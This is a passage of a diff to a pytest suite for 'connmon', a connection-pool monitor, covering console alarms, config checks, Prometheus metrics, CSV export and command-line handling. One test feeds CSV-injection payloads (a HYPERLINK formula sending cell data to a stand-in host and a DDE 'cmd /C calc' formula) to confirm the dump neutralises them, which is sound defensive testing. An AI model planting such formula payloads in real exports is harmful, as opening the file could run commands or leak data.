-                         1, None, None, None, None)
-                        for conn in range(1, out + 1)])
-        if prog == "nova-conductor":
-            app.state.site_names[7] = "/srv/nova/db/api.py:88 in leak"
-            app.state.holders[1] = (7, None, None)
-            app.state.held_at[1] = "thread gone"
-        app.send()
-        fleet[host, prog, index] = app
-    wait_until(lambda: len(daemon.snapshot()["rows"]) == len(OPENSTACK) + 10,
-               what="the fleet's rows")
-    return fleet
-
-
-class TimeoutStorm(threading.Thread):
-    """heat-engine: three checkouts waiting for good, and one giving up
-    every half second, until stopped."""
-
-    def __init__(self, app: "SyntheticApp"):
-        super().__init__(daemon=True)
-        self.app = app
-        self.stopping = threading.Event()
-        self.began = time.monotonic()
-
-    def run(self) -> None:
-        while not self.stopping.is_set():
-            now = time.monotonic()
-            self.app.state.fold([(connmon.TIMED_OUT, None, now, 1, None,
-                                  None, None, now - 5)])
-            self.app.state.look_at_waiters(now, {1: [self.began] * 3})
-            self.app.send()
-            self.stopping.wait(0.5)
-
-    def stop(self) -> None:
-        self.stopping.set()
-        self.join(10)
-
-
-@pytest.fixture
-def alarm_daemon(tmp_path):
-    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n"
-                    "database_servers:\n    db1:3306 max_connections=96\n")
-    fleet = alarm_fleet(daemon)
-    storm = TimeoutStorm(fleet["ctl3", "heat-engine", 0])
-    storm.start()
-    wait_until(lambda: (daemon.row("heat-engine") or {}).get("waiting") == 3
-               and daemon.row("heat-engine")["timeouts_total"] > 0,
-               what="heat-engine waiting and timing out")
-    yield daemon
-    storm.stop()
-    daemon.stop()
-
-
-def alarm_words(t: Terminal) -> str:
-    """The header's lines under the title (totals and alarms), joined."""
-    return " ".join(t.display[1:5])
-
-
-@pytest.mark.parametrize("cols, lines", [(80, 24), (60, 20), (40, 15)])
-def test_console_every_alarm_on_the_first_screen(alarm_daemon, terminal,
-                                                 cols, lines):
-    daemon = alarm_daemon
-    term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
-                    lines=lines)
-    term.wait_text("sorted by CONN descending")
-    # heat-engine sorts last by CONN, below the bottom at either size ...
-    # (its timeouts are seen as recent from the second snapshot on)
-    term.wait_for(lambda t: "heat-engine" not in "\n".join(
-        t.display[7:-1]) and re.search(
-            r"ALARMS 4: heat-engine WAIT 3 TMOUT [\d.]+", alarm_words(t)),
-        "heat-engine named first in the alarm line")
-    words = alarm_words(term)
-    # the header's numbers are whole at any width
-    for total in ("Hosts 6/6", "Procs 30/30", "Conn 91/91", "Ckout 12/12 ",
-                  "Wait 3/"):
-        assert total in words, (total, term.text)
-    assert re.search(r"Tmout [\d.]+/s", words), words
-    if cols == 80:   # ... and every alarm is named on the first screen
-        for alarm in ("DB db1:3306 CONN 91/96 95%", "nova-scheduler "
-                      "EXHAUSTED", "nova-conductor LEAK"):
-            assert alarm in words, (alarm, term.text)
-        # the numbers of the header are whole
-        assert re.search(r"Conn 91/91 .*Tmout [\d.]+/s", words), words
-    else:
-        assert re.search(r"\+[123] more \(a\)", words), words
-    # the alarms view lists them all; Enter on one opens its processes
-    term.press(b"a")
-    term.wait_text("4 alarms:")
-    listed = "\n".join(term.display[7:-1])
-    for name in ("heat-engine", "db1:3306", "nova-sche", "nova-cond"):
-        assert name in listed, (name, term.text)
-    term.press(b"\r")
-    term.wait_text("heat-engine on ctl3: 1 process")
-    term.press(b"\x1b")
-    term.wait_text("4 alarms:")
-    term.press(b"\x1b")
-    # TMOUT/S marked, whatever the sort: End shows the row
-    term.press(term.key["kend"])
-    term.wait_for(lambda t: "heat-engine" in "\n".join(t.display[7:-1]),
-                  "heat-engine at the end")
-    if cols == 80:
-        row = term.wait_for(lambda t: screen_row(t, "heat-engine"),
-                            "the heat-engine row")
-        heads, _ = table_on_screen(term)
-        fields = dict(zip(heads, term.display[row["y"]].split()))
-        assert fields["WAIT"] == "!3" and fields["TMOUT/S"].startswith(
-            "!"), fields
-    term.press(b"d")   # the databases view: db1 at 95 %, marked
-    term.wait_for(lambda t: re.search(r"db1:3306 +all \(mysql\) +!91"
-                                      + (r" +!95 " if cols == 80 else ""),
-                                      t.text), "db1's CONN (USE%) marked")
-    term.press(b"\x1b")
-    term.wait_text("sorted by CONN descending")
-    term.press(b"w")   # one key: sort by WAIT (the selection follows
-    term.wait_text("sorted by WAIT descending")   # its row: Home)
-    term.press(term.key["khome"])
-    term.wait_for(lambda t: "heat-engine" in t.display[7], "WAIT sort")
-    term.press(b"o")
-    term.wait_text("sorted by OLDEST descending")
-    term.press(term.key["khome"])
-    term.wait_for(lambda t: shown_as(t.display[7].split()[1],
-                                     "nova-conductor"), "OLDEST sort")
-
-
-@pytest.mark.parametrize("cols, lines", [(80, 24), (40, 15)])
-def test_console_every_list_reachable_by_keys(alarm_daemon, terminal,
-                                              cols, lines):
-    daemon = alarm_daemon
-    truth = daemon.snapshot()["rows"]
-    term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
-                    lines=lines)
-    term.wait_text("sorted by CONN descending")
-    # the table: cut, it says how many more; PgDn and End reach the rest
-    term.wait_for(lambda t: t.display[-1].startswith(
-        f"[1-{lines - 8} of 19]"), "the footer's 1-N of 19")
-    if cols == 80:
-        term.wait_text("(1-16 shown, 3 more)")
-    seen = set()
-
-    def collect(t: Terminal) -> bool:
-        for line in t.display[7:-1]:
-            fields = line.split()
-            if len(fields) > 2:
-                seen.add(fields[1])
-        return True
-
-    for _ in range(4):
-        term.wait_for(collect, "rows")
-        term.press(term.key["knp"])
-        time.sleep(0.4)   # (the keys are read between refreshes)
-    term.wait_for(collect, "rows")
-    for row in truth:
-        assert any(shown_as(name, row["progname"]) for name in seen), (
-            row["progname"], seen)
-    # the drill-down of nova-api: 12 processes, 12 pools, all reachable
-    term.press(b"/nova-api\r")
-    term.wait_text("[filter: nova-api]")
-    term.press(b"\r")
-    term.wait_text("nova-api on api1: 12 processes")
-    term.wait_text("more lines (Down/j, PgDn, End)")
-    document: Dict[int, str] = {}
-    frames: List[List[str]] = [[]]
-
-    def read(t: Terminal) -> bool:
-        """The drill-down's lines on screen by their place in it (the
-        caption says where the screen starts), once the screen has held
-        still for a poll (a whole frame drawn)."""
-        display = t.display
-        if display != frames[-1]:
-            frames.append(display)
-            return False
-        found = re.search(r": 12 processes \((\d+)-", display[5])
-        if found is None:
-            return False
-        lines = display[7:-1]
-        if "more lines" in lines[-1]:
-            lines = lines[:-1]
-        for offset, line in enumerate(lines):
-            document[int(found[1]) - 1 + offset] = line
-        return True
-
-    term.wait_for(read, "the first page")
-    while "more lines (Down/j" in term.text:
-        before = term.display[5]
-        term.press(term.key["knp"])
-        term.wait_for(lambda t: t.display[5] != before and read(t),
-                      "the next page")
-    term.press(term.key["khome"] + b"j")   # j: one line down
-    term.wait_for(lambda t: re.search(r"processes \(2-", t.display[5]),
-                  "one line down")
-    term.press(term.key["kcud1"])          # Down: one more
-    term.wait_for(lambda t: re.search(r"processes \(3-", t.display[5]),
-                  "two lines down")
-    term.press(term.key["kend"])
-    term.wait_for(lambda t: read(t) and "more lines" not in t.text,
-                  "the end")
-    text = [document[index] for index in sorted(document)]
-    assert sorted(document) == list(range(len(document)))   # none skipped
-    pools_at = [i for i, line in enumerate(text)
-                if "12 pools, with the database of each" in line]
-    assert pools_at, text
-    processes = [line for line in text[:pools_at[0]]
-                 if line.split()[:1] == ["4242"]]
-    pools = [line for line in text[pools_at[0]:]
-             if line.split()[:1] == ["4242"]]
-    assert len(pools) == 12, text
-    assert len(processes) == 12, text
-
-
-def test_check_config_reports_every_mistake_in_one_run(tmp_path):
-    path = write(tmp_path, f"""\
-        [connmon]
-        service: a
-
-        [connmon_servce_b]
-        name: b
-        nodes:
-            n1 hostname=127.0.0.1:1
-
-        [connmon_service_a]
-        name: a
-        hold_warn_seconds: soon
-        metrics_prot: 9187
-        csv_dump: {tmp_path}/missing/a.csv
-        nodes:
-            n1 hostname=127.0.0.1:1
-            n2 hostnme=h
-        """)
-    result = run_connmond("--check-config", "-c", path, "-s", "a")
-    assert (result.returncode, result.stdout) == (2, "")
-    assert result.stderr.splitlines() == [
-        f"connmond: error: {path}:1: [connmon] unknown section: connmon "
-        "reads [connmon_service_NAME] sections (and logging's); did you "
-        "mean [connmon_service_default]?",
-        f"connmond: error: {path}:4: [connmon_servce_b] unknown section: "
-        "connmon reads [connmon_service_NAME] sections (and logging's); did "
-        "you mean [connmon_service_b]?",
-        f"connmond: error: {path}:16: [connmon_service_a] unexpected "
-        "'hostnme=h' in node line 'n2 hostnme=h'; expected "
-        "hostname=HOST[:PORT] [bind=ADDR[:PORT]]",
-        f"connmond: error: {path}:11: [connmon_service_a] hold_warn_seconds: "
-        "expected a number of seconds from 0.1 to 86400, got 'soon'",
-        f"connmond: error: {path}:12: [connmon_service_a] unknown option "
-        "'metrics_prot' (did you mean metrics_port?)",
-        f"connmond: error: {path}:13: [connmon_service_a] csv_dump: "
-        f"directory {tmp_path}/missing does not exist"]
-
-
-def test_check_config_misspelt_section_is_named_not_unknown(tmp_path):
-    path = write(tmp_path, "[connmon_servce_default]\nname: default\n"
-                 "nodes:\n    n1 hostname=127.0.0.1:1\n")
-    result = run_connmond("--check-config", "-c", path)
-    assert result.returncode == 2
-    assert result.stderr == (
-        f"connmond: error: {path}:1: [connmon_servce_default] unknown "
-        "section: connmon reads [connmon_service_NAME] sections (and "
-        "logging's); did you mean [connmon_service_default]?\n")
-
-
-def test_check_config_prints_the_warnings_start_up_logs(tmp_path):
-    path = write(tmp_path, """\
-        [connmon_service_a]
-        name: a
-        metrics_port: 9187
-        metrics_bind: 0.0.0.0
-        nodes:
-            n1 hostname=127.0.0.1:1 bind=0.0.0.0
-        """)
-    result = run_connmond("--check-config", "-c", path, "-s", "a")
-    assert result.returncode == 0
-    assert result.stdout.startswith(f"connmond: config OK: {path}")
-    warnings = result.stderr.splitlines()
-    assert len(warnings) == 2, warnings
-    assert warnings[0].startswith(
-        f"connmond: warning: {path}: [connmon_service_a] listening on "
-        "0.0.0.0:1 without auth_secret_file: anyone who can reach")
-    assert warnings[1].startswith(
-        f"connmond: warning: {path}: [connmon_service_a] serving /metrics "
-        "on 0.0.0.0:9187 without metrics_token_file")
-
-
-def test_once_fits_80_columns_and_says_its_sort(alarm_daemon):
-    def once(*args: str, **env: str) -> List[str]:
-        return subprocess.run(
-            [sys.executable, "-m", "connmon_console", "--once", "-H",
-             alarm_daemon.address, *args], cwd=HERE,
-            env={**CHILD_ENV, **env}, capture_output=True, text=True,
-            timeout=30, check=True).stdout.splitlines()
-
-    lines = once(COLUMNS="80")
-    assert max(len(line) for line in lines) <= 80, lines
-    (context,) = [line for line in lines if "sorted by" in line]
-    assert context == "19 rows, sorted by CONN descending"
-    heads = lines[lines.index(context) + 1].split()
-    assert heads[:2] == ["HOSTNAME", "PROGNAME"] and "CONN" in heads
-    rows = [line.split("  (")[0].split()   # (a state mark after a row)
-            for line in lines[lines.index(context) + 2:]
-            if line[:1] not in (" ", "")]
-    rows = [fields for fields in rows if len(fields) == len(heads)]
-    conns = [int(fields[heads.index("CONN")]) for fields in rows]
-    assert len(conns) == 19 and conns == sorted(conns, reverse=True)
-    assert any(line.startswith("ALARMS 4: heat-engine") for line in lines)
-    wide = once("--wide", COLUMNS="80")
-    assert max(len(line) for line in wide) > 80
-    assert "MAXCKOUT" in "\n".join(wide)
-
-
-def test_console_pointed_at_mariadb_says_so_whole(terminal):
-    require_database(MYSQL_URL)
-    term = terminal("-H", "127.0.0.1:3306", cols=80, lines=24)
-    term.wait_text("this looks like a MySQL/MariaDB server")
-    text = " ".join(line.strip() for line in term.display[1:-1])
-    assert "is the port connmond's (default 5800)?" in text
-    assert "(next try in 60s)" in text   # once a minute, not 1, 2, 4 s
-
-
-# --- (new) one reader thread serves every app's stream ---
 
 def test_messages_sent_with_the_state_are_all_applied(daemon):
     """What an app sends in the same write as its first state (read by its
@@ -9758,3 +9210,567 @@ def test_departure_storm_leaves_the_picture_and_the_daemon_serving(daemon):
     with sock:
         assert pong_after(sock, rfile, counters_only()) == {"op": "pong"}
         daemon.wait_row("after.py", nproc=1, conn=1, ckout_total=5)
+
+
+# ===========================================================================
+# Exports (Prometheus, CSV, logging)
+#
+# What leaves the daemon for other tools: the Prometheus text, equal to the
+# snapshot whatever the labels; the CSV dump (changed rows, restarts, no
+# formula cells, trouble as one log line); the config's logging sections.
+# ===========================================================================
+
+
+def test_metrics_equal_the_snapshot_with_awkward_labels(tmp_path, apps):
+    port = free_port()
+    daemon = Daemon(tmp_path, extra_config=f"metrics_port: {port}\n"
+                    "metrics_bind: 127.0.0.1\n")
+    try:
+        app = apps(f"sqlite:///{tmp_path}/m.sqlite?plugin=connmon"
+                   f"&connmon_addr={daemon.address}", "metrics_app.py")
+        app("hold 2")
+        app("query 3")
+        # The queries need a third connection; it stays pooled.
+        daemon.wait_row("metrics_app.py", conn=3, ckout=2, ckout_total=5)
+
+        hostname = 'rack "7"\\db\\api'   # a double quote and backslashes
+        synthetic = SyntheticApp(daemon, hostname, 'nova-"api"')
+        for conn in (1, 2):
+            synthetic.event(connmon.CONNECT, conn, 1)
+        synthetic.event(connmon.CHECKOUT, 1, 1)
+        synthetic.send()
+        for _ in range(3):
+            synthetic.event(connmon.CHECKOUT, 2, 1)
+            synthetic.event(connmon.CHECKIN, 2)
+        synthetic.send()
+        daemon.wait_row('nova-"api"', conn=2, ckout=1, ckout_total=4)
+
+        def scraped_as_snapshot() -> Optional[tuple]:
+            """A scrape equal to the snapshot read just before it (the
+            rates of the last second may move between the two reads)."""
+            snapshot = daemon.snapshot()
+            status, headers, text = http_get(port, "/metrics")
+            if metric_samples(text) == expected_samples(snapshot):
+                return status, headers, text
+            return None
+        status, headers, text = wait_until(scraped_as_snapshot,
+                                           what="/metrics as the snapshot")
+        assert status == 200
+        assert headers["Content-Type"] == (
+            "text/plain; version=0.0.4; charset=utf-8")
+        assert r'hostname="rack \"7\"\\db\\api"' in text
+        samples = metric_samples(text)
+        host = socket.gethostname()
+        for name, value in [("connmon_connections", 3),
+                            ("connmon_checked_out_connections", 2),
+                            ("connmon_processes", 1),
+                            ("connmon_checkouts_total", 5),
+                            ("connmon_connected", 1)]:
+            assert samples[(name, host, "metrics_app.py")] == value
+        for name, value in [("connmon_connections", 2),
+                            ("connmon_checked_out_connections", 1),
+                            ("connmon_max_connections", 2),
+                            ("connmon_checkouts_total", 4)]:
+            assert samples[(name, hostname, 'nova-"api"')] == value
+
+        synthetic.conn.close()   # the row stays, disconnected
+        daemon.wait_row('nova-"api"', connected=False, conn=0)
+        samples = metric_samples(http_get(port, "/metrics")[2])
+        assert samples[("connmon_connected", hostname, 'nova-"api"')] == 0
+        assert samples[("connmon_checkouts_total", hostname,
+                        'nova-"api"')] == 4
+
+        assert http_get(port, "/healthz")[:3:2] == (200, "ok\n")
+        assert http_get(port, "/nothing")[0] == 404
+    finally:
+        daemon.stop()
+
+
+def test_metrics_text_escapes_newlines_and_skips_nulls():
+    from prometheus_client.parser import text_string_to_metric_families
+    row = {"hostname": "two\nlines", "progname": 'a\\"b', "connected": True,
+           "nproc": 1, "conn": 3, "ckout": 0, "maxnproc": 1, "maxconn": 4,
+           "maxckout": 2, "ckout_total": 9, "limit": None, "oldest": 1.5}
+    text = connmon_server.render_metrics({"rows": [row]})
+    assert "\ntwo" not in text and r'hostname="two\nlines"' in text
+    families = {f.name: f for f in text_string_to_metric_families(text)}
+    assert families["connmon_pool_limit_connections"].samples == []
+    (oldest,) = families["connmon_oldest_checkout_age_seconds"].samples
+    assert oldest.labels == {"hostname": "two\nlines", "progname": 'a\\"b'}
+    assert oldest.value == 1.5
+    assert families["connmon_checkouts"].type == "counter"
+
+
+def test_csv_dump_appends_changed_rows_and_survives_restart(tmp_path, apps):
+    out = tmp_path / "connmon.csv"
+    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
+                    "csv_interval: 0.2\ncsv_token: run-1\n")
+    try:
+        url = (f"sqlite:///{tmp_path}/c.sqlite?plugin=connmon"
+               f"&connmon_addr={daemon.address}")
+        one = apps(url, "one.py")
+        one("hold 2")
+
+        def rows_where(progname: str, **values: str):
+            return [row for row in (csv_rows(out) if out.exists() else [])
+                    if row["progname"] == progname and
+                    all(row[k] == v for k, v in values.items())]
+        wait_until(lambda: rows_where("one.py", conn="2", ckout="2"),
+                   what="a CSV row of one.py with 2 connections")
+        header = out.read_text().splitlines()[0]
+        assert header == ("time,token,hostname,progname,nproc,conn,ckout,"
+                          "maxnproc,maxconn,maxckout,ckout_total")
+
+        # Only what changed is written: one.py is quiet while two.py moves
+        # through two states (so at least two more intervals pass).
+        two = apps(url, "two.py")
+        two("hold 1")
+        wait_until(lambda: rows_where("two.py", conn="1"), what="two.py 1")
+        two("hold 1")
+        wait_until(lambda: rows_where("two.py", conn="2"), what="two.py 2")
+        rows = csv_rows(out)
+        last_one = max(i for i, row in enumerate(rows)
+                       if row["progname"] == "one.py")
+        assert rows[last_one]["conn"] == "2"
+        assert last_one < min(i for i, row in enumerate(rows)
+                              if row["progname"] == "two.py")
+        for row in rows:
+            assert row["token"] == "run-1"
+            assert row["hostname"] == socket.gethostname()
+            time.strptime(row["time"], "%Y-%m-%dT%H:%M:%SZ")
+
+        before = out.read_text()
+        daemon.stop()
+        daemon.start()
+        one("release 1")
+        wait_until(lambda: rows_where("one.py", conn="2", ckout="1"),
+                   what="a CSV row of one.py after the restart")
+        after = out.read_text()
+        assert after.startswith(before)       # appended, never truncated
+        assert after.count(header) == 1       # and one header
+    finally:
+        daemon.stop()
+
+
+def test_csv_cells_never_start_a_formula(tmp_path):
+    """A host or program named like a spreadsheet formula is written with a
+    quote before it: opening the dump runs nothing."""
+    out = tmp_path / "connmon.csv"
+    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
+                    "csv_interval: 0.2\n")
+    try:
+        names = {'=HYPERLINK("http://x/?"&A1,"go")': "+cmd|' /C calc'!A0",
+                 "@SUM(1+1)": "-2+3", "plain": "ok.py"}
+        apps = [SyntheticApp(daemon, hostname, progname)
+                for hostname, progname in names.items()]
+        rows = wait_until(lambda: out.exists() and len(csv_rows(out)) == 3
+                          and csv_rows(out), what="three CSV rows")
+        assert {row["hostname"]: row["progname"] for row in rows} == {
+            '\'=HYPERLINK("http://x/?"&A1,"go")': "'+cmd|' /C calc'!A0",
+            "'@SUM(1+1)": "'-2+3", "plain": "ok.py"}
+        for app in apps:
+            app.conn.close()
+    finally:
+        daemon.stop()
+
+
+@pytest.mark.parametrize("case", ["missing-directory", "disk-full",
+                                  "other-header"])
+def test_csv_trouble_is_one_log_line_and_the_daemon_carries_on(
+        tmp_path, apps, case):
+    out = {"missing-directory": tmp_path / "later" / "connmon.csv",
+           "disk-full": "/dev/full",
+           "other-header": tmp_path / "theirs.csv"}[case]
+    if case == "disk-full" and not os.path.exists(out):
+        pytest.skip("no /dev/full on this system")
+    if case == "other-header":
+        out.write_text("a,b\n1,2\n")
+    daemon = Daemon(tmp_path, extra_config=f"csv_dump: {out}\n"
+                    "csv_interval: 0.1\n")
+    try:
+        app = apps(f"sqlite:///{tmp_path}/t.sqlite?plugin=connmon"
+                   f"&connmon_addr={daemon.address}", "trouble.py")
+        app("hold 1")
+
+        def complaints() -> List[str]:
+            return [line for line in daemon.log.read_text().splitlines()
+                    if f"cannot write CSV to {out}" in line]
+        # Three tries: one ERROR line, then quiet (DEBUG) retries.
+        lines = wait_until(lambda: (lambda c: c if len(c) >= 3 else None)(
+            complaints()), what="three CSV write attempts")
+        assert [" ERROR " in line for line in lines[:3]] == [
+            True, False, False]
+        assert "connmond carries on" in lines[0]
+        if case == "other-header":
+            assert "the file starts with 'a,b'" in lines[0]
+            assert out.read_text() == "a,b\n1,2\n"
+        app("hold 1")
+        daemon.wait_row("trouble.py", conn=2, ckout=2)   # still serving
+        if case == "missing-directory":
+            out.parent.mkdir()
+            rows = wait_until(lambda: out.exists() and csv_rows(out),
+                              what="CSV rows once the directory exists")
+            assert rows[-1]["conn"] == "2"
+            wait_until(lambda: f"writing CSV to {out} again"
+                       in daemon.log.read_text(), what="recovery log line")
+    finally:
+        daemon.stop()
+
+
+def test_logging_sections_in_the_config_are_honoured(tmp_path, apps):
+    logfile = tmp_path / "connmond-own.log"
+    daemon = Daemon(tmp_path, extra_config=textwrap.dedent(f"""\
+        [loggers]
+        keys = root, connmond
+        [handlers]
+        keys = file
+        [formatters]
+        keys = plain
+        [logger_root]
+        level = WARNING
+        handlers = file
+        [logger_connmond]
+        level = INFO
+        handlers = file
+        propagate = 0
+        qualname = connmond
+        [handler_file]
+        class = FileHandler
+        args = ({str(logfile)!r}, "a")
+        formatter = plain
+        [formatter_plain]
+        format = CUSTOM %(levelname)s %(name)s: %(message)s
+        """))
+    try:
+        app = apps(f"sqlite:///{tmp_path}/l.sqlite?plugin=connmon"
+                   f"&connmon_addr={daemon.address}", "logged.py")
+        app("hold 1")
+        daemon.wait_row("logged.py", conn=1)
+        wait_until(lambda: "app logged.py[" in logfile.read_text(),
+                   what="the app's connect line in the configured log")
+        lines = logfile.read_text().splitlines()
+        assert lines[0].startswith("CUSTOM INFO connmond: connmond ")
+        assert any(line.startswith("CUSTOM INFO connmond: ") and
+                   "app logged.py[" in line and "connected" in line
+                   for line in lines)
+        assert "connmond" not in daemon.log.read_text()   # not on stderr
+    finally:
+        daemon.stop()
+
+
+def test_trust_metrics_capped_and_deadlined(tmp_path, apps):
+    """/metrics serves at most connmon_server.MAX_METRICS_CLIENTS at once,
+    and each for at most METRICS_DEADLINE seconds in all, however slowly
+    it trickles: a crowd of trickling clients neither holds threads for
+    ever nor keeps the next scrape out for longer than that."""
+    port = free_port()
+    daemon = Daemon(tmp_path, extra_config=f"metrics_port: {port}\n")
+    tricklers = []
+    try:
+        began = time.monotonic()
+        for _ in range(connmon_server.MAX_METRICS_CLIENTS):
+            sock = socket.create_connection(("127.0.0.1", port), 5)
+            sock.sendall(b"G")
+            tricklers.append(sock)
+        with socket.create_connection(("127.0.0.1", port), 5) as extra:
+            extra.settimeout(5)
+            assert extra.recv(1) == b""   # past the cap: closed at once
+        assert "requests served already" in daemon.log.read_text()
+
+        def trickle_until_closed() -> bool:
+            for sock in tricklers:
+                try:
+                    sock.sendall(b"E")   # a byte now and then
+                except OSError:
+                    pass
+            time.sleep(0.5)
+            return len(readable(tricklers, 0)) == len(tricklers)
+        wait_until(trickle_until_closed,
+                   connmon_server.METRICS_DEADLINE + 10,
+                   "every trickler cut off at its deadline")
+        assert (time.monotonic() - began
+                >= connmon_server.METRICS_DEADLINE - 1)
+        status, _, text = http_get(port, "/metrics")
+        assert status == 200 and "connmon_processes" in text
+    finally:
+        for sock in tricklers:
+            sock.close()
+        daemon.stop()
+
+
+# ===========================================================================
+# The command line
+#
+# connmond's and connmon's command lines: --version, refused combinations and
+# arguments, ending quietly (closed pipe, Ctrl-C, SIGTERM), SIGHUP, telling
+# what is not connmond, and the demo leaving nothing running.
+# ===========================================================================
+
+
+def test_console_exits_nonzero_when_no_node_answers(tmp_path):
+    port = free_port()
+    result = subprocess.run(
+        [sys.executable, "-m", "connmon_console", "--once", "--json", "-H",
+         f"127.0.0.1:{port}"], cwd=HERE, env=CHILD_ENV, capture_output=True,
+        text=True,
+        timeout=30)
+    assert result.returncode == 1
+    assert (f"connmon: cannot get a snapshot from 127.0.0.1:{port}: no "
+            f"connmond answered (127.0.0.1:{port}:") in result.stderr
+
+
+def test_sigterm_stops_the_daemon_cleanly(tmp_path):
+    daemon = Daemon(tmp_path)
+    daemon.kill(signal.SIGTERM)
+    assert daemon.proc.returncode == 0
+    assert "connmond stopping" in daemon.log.read_text()
+
+
+@pytest.mark.parametrize("args, message", [
+    (["-H", "127.0.0.1:1", "-i", "0"], "argument -i/--interval: '0' is not "
+     "a number of seconds from 0.05 to 3600"),
+    (["-H", "127.0.0.1:1", "-i", "x"], "'x' is not a number of seconds"),
+    (["--demo", "--once"], "--demo is interactive"),
+    (["--demo", "-H", "127.0.0.1:1"], "argument -H/--host: not allowed with "
+     "argument --demo"),
+    (["-H", "127.0.0.1:1"], "the live screen needs a terminal; use --once "
+     "for scripts"),
+])
+def test_console_command_line_errors(args, message):
+    result = subprocess.run(
+        [sys.executable, "-m", "connmon_console", *args], cwd=HERE,
+        env=CHILD_ENV, capture_output=True, text=True, timeout=30,
+        stdin=subprocess.DEVNULL)
+    assert result.returncode == 2
+    assert message in result.stderr
+
+
+def test_version_on_both_commands():
+    for module, name in (("connmon_console", "connmon"),
+                         ("connmon_server", "connmond")):
+        result = subprocess.run([sys.executable, "-m", module, "--version"],
+                                cwd=HERE, env=CHILD_ENV, capture_output=True,
+                                text=True, timeout=30)
+        assert (result.returncode, result.stdout) == (
+            0, f"{name} {connmon.__version__}\n")
+
+
+def test_procs_without_once_is_refused():
+    """--procs lists processes in --once's table or JSON; the live screen
+    has its drill-down instead."""
+    result = subprocess.run(
+        [sys.executable, "-m", "connmon_console", "--procs", "-H",
+         "127.0.0.1:1"], cwd=HERE, env=CHILD_ENV, capture_output=True,
+        text=True, timeout=30)
+    assert result.returncode == 2
+    assert "error: --procs goes with --once" in result.stderr
+
+
+def test_once_json_into_a_closed_pipe_ends_quietly(daemon):
+    openstack = openstack_fleet(daemon)
+    reader, writer = os.pipe()
+    os.close(reader)   # like head -1, gone before connmon writes
+    result = subprocess.run(
+        [sys.executable, "-m", "connmon_console", "--once", "--json", "-H",
+         daemon.address], cwd=HERE, env=CHILD_ENV, stdout=writer,
+        stderr=subprocess.PIPE, text=True, timeout=30)
+    os.close(writer)
+    assert (result.returncode, result.stderr) == (0, "")
+    # ... and through a real pipe into head -1.
+    result = subprocess.run(
+        f"{sys.executable} -m connmon_console --once --json -H "
+        f"{daemon.address} | head -1", shell=True, cwd=HERE, env=CHILD_ENV,
+        capture_output=True, text=True, timeout=30)
+    assert (result.stdout, result.stderr) == ("{\n", "")
+    assert openstack
+
+
+def test_ctrl_c_during_once_ends_quietly():
+    server = FakeDaemon()
+    try:
+        proc = subprocess.Popen(
+            [sys.executable, "-m", "connmon_console", "--once", "-H",
+             f"127.0.0.1:{server.port}"], cwd=HERE, env=CHILD_ENV,
+            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+        wait_until(lambda: server.accepted, what="connmon waiting")
+        proc.send_signal(signal.SIGINT)
+        out, err = proc.communicate(timeout=30)
+        assert (proc.returncode, out, err) == (130, "", "")
+    finally:
+        server.close()
+
+
+@pytest.mark.parametrize("what", ["mariadb", "postgresql", "http"])
+def test_once_says_when_it_is_not_connmond(what):
+    import http.server
+
+    class Quiet(http.server.SimpleHTTPRequestHandler):
+        def log_message(self, *args: Any) -> None:
+            pass
+    httpd = None
+    if what == "http":
+        httpd = http.server.HTTPServer(("127.0.0.1", 0), Quiet)
+        threading.Thread(target=httpd.serve_forever, daemon=True).start()
+        address = f"127.0.0.1:{httpd.server_address[1]}"
+    else:
+        url = MYSQL_URL if what == "mariadb" else POSTGRESQL_URL
+        require_database(url)
+        address = "127.0.0.1:3306" if what == "mariadb" else "127.0.0.1:5432"
+    try:
+        result = subprocess.run(
+            [sys.executable, "-m", "connmon_console", "--once", "-H",
+             address], cwd=HERE, env=CHILD_ENV, capture_output=True,
+            text=True, timeout=30)
+    finally:
+        if httpd is not None:
+            httpd.shutdown()
+    assert result.returncode == 1
+    (line,) = result.stderr.splitlines()
+    assert line.startswith(f"connmon: {address}: not connmond: "), line
+
+
+def test_live_console_backs_off_from_what_is_not_connmond(terminal):
+    server = FakeDaemon(greeting=b"J\x00\x00\x00\n5.5.5-10.11.6-MariaDB\x00")
+    try:
+        term = terminal("-H", f"127.0.0.1:{server.port}", "-i", "0.2")
+        term.wait_text("not connmond")
+        time.sleep(6)
+        # Every 0.2 s would be 30 tries; backing off, a handful.
+        assert 1 <= server.accepted <= 6, server.accepted
+        assert "next try in" in term.display[-1]
+    finally:
+        server.close()
+
+
+def test_sighup_does_not_stop_connmond(daemon):
+    app = SyntheticApp(daemon, "ctl1", "nova-conductor")
+    daemon.proc.send_signal(signal.SIGHUP)
+    wait_until(lambda: "SIGHUP ignored" in daemon.log.read_text(),
+               what="the SIGHUP log line")
+    assert daemon.proc.poll() is None
+    assert daemon.row("nova-conductor")["connected"]
+    assert app.conn
+
+
+def test_demo_killed_with_sigkill_leaves_nothing_running(terminal):
+    require_module("sqlalchemy")
+    term = terminal("--demo")
+    term.wait_for(lambda t: "nova-api" in t.rows(), "the demo's rows")
+    port = int(term.text.split("attached to 127.0.0.1:")[1].split()[0])
+    children = [int(name) for name in os.listdir("/proc") if name.isdigit()
+                and _parent_pid(int(name)) == term.proc.pid]
+    assert len(children) >= 6
+    term.proc.kill()
+    term.proc.wait(10)
+    wait_until(lambda: not [pid for pid in children
+                            if _parent_pid(pid) is not None],
+               what="every demo process gone")
+    with pytest.raises(OSError):
+        socket.create_connection(("127.0.0.1", port), 1).close()
+
+
+def test_check_config_reports_every_mistake_in_one_run(tmp_path):
+    path = write(tmp_path, f"""\
+        [connmon]
+        service: a
+
+        [connmon_servce_b]
+        name: b
+        nodes:
+            n1 hostname=127.0.0.1:1
+
+        [connmon_service_a]
+        name: a
+        hold_warn_seconds: soon
+        metrics_prot: 9187
+        csv_dump: {tmp_path}/missing/a.csv
+        nodes:
+            n1 hostname=127.0.0.1:1
+            n2 hostnme=h
+        """)
+    result = run_connmond("--check-config", "-c", path, "-s", "a")
+    assert (result.returncode, result.stdout) == (2, "")
+    assert result.stderr.splitlines() == [
+        f"connmond: error: {path}:1: [connmon] unknown section: connmon "
+        "reads [connmon_service_NAME] sections (and logging's); did you "
+        "mean [connmon_service_default]?",
+        f"connmond: error: {path}:4: [connmon_servce_b] unknown section: "
